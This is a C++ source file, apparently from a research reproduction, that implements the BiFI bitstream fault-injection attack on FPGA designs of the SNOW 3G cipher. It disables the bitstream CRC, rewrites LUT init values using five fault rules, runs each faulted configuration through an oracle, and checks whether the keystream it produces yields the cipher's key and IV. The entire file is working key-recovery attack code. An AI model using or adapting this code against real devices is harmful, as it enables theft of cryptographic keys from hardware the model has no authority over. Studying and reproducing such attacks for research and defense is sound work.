#include "attack/bifi.h"

#include <set>

#include "bitstream/patcher.h"

namespace sbm::attack {

const std::vector<BifiRule>& all_bifi_rules() {
  static const std::vector<BifiRule> rules = {BifiRule::kClearLut, BifiRule::kSetLut,
                                              BifiRule::kInvertLut, BifiRule::kSetHighHalf,
                                              BifiRule::kClearHighHalf};
  return rules;
}

u64 apply_bifi_rule(u64 init, BifiRule rule) {
  switch (rule) {
    case BifiRule::kClearLut:
      return 0;
    case BifiRule::kSetLut:
      return ~u64{0};
    case BifiRule::kInvertLut:
      return ~init;
    case BifiRule::kSetHighHalf:
      return init | 0xffffffff00000000ull;
    case BifiRule::kClearHighHalf:
      return init & 0x00000000ffffffffull;
  }
  return init;
}

bool keystream_exploitable(std::span<const u32> z,
                           std::optional<snow3g::RecoveredSecrets>* out) {
  if (z.size() < 16) return false;
  // Stuck-at output: trivially "exploitable" in BiFI's sense (the cipher is
  // disabled), though it does not yield the key.
  bool constant = true;
  for (const u32 w : z) constant = constant && w == z[0];
  if (constant) {
    if (out != nullptr) *out = std::nullopt;
    return true;
  }
  // Key-recovering structure: the 16 words reverse to a consistent
  // gamma(K, IV) initial state (Section VI-A).
  const auto secrets = snow3g::recover_from_keystream(z.subspan(0, 16));
  if (secrets) {
    if (out != nullptr) *out = secrets;
    return true;
  }
  return false;
}

BifiResult run_bifi(Oracle& oracle, std::span<const u8> golden_bitstream,
                    const BifiOptions& options) {
  BifiResult result;

  std::vector<u8> base(golden_bitstream.begin(), golden_bitstream.end());
  bitstream::disable_crc(base);

  const auto golden = oracle.run(base, options.words);
  ++result.configurations;
  if (!golden) return result;

  // Enumerate occupied LUT positions from the frame geometry, as BiFI does
  // after locating the FDRI write.
  for (const size_t l : bitstream::LutSlots(base).occupied(base, options.find.offset_d)) {
    for (const auto& order : bitstream::device_chunk_orders()) {
      const u64 init = bitstream::read_lut_init(base, l, options.find.offset_d, order);
      for (const BifiRule rule : all_bifi_rules()) {
        const u64 faulted = apply_bifi_rule(init, rule);
        if (faulted == init) continue;
        if (result.configurations >= options.max_configurations) return result;
        std::vector<u8> bytes = base;
        bitstream::write_lut_init(bytes, l, options.find.offset_d, order, faulted);
        ++result.configurations;
        const auto z = oracle.run(bytes, options.words);
        if (!z) {
          ++result.rejected;
          continue;
        }
        if (*z != *golden) ++result.interesting;
        std::optional<snow3g::RecoveredSecrets> secrets;
        if (keystream_exploitable(*z, &secrets) && secrets.has_value()) {
          result.success = true;
          result.secrets = secrets;
          result.winning_description =
              "rule " + std::to_string(static_cast<int>(rule)) + " at byte " +
              std::to_string(l);
          return result;
        }
      }
      break;  // only re-interpret under the second order if needed; one pass
    }
  }
  return result;
}

}  // namespace sbm::attack
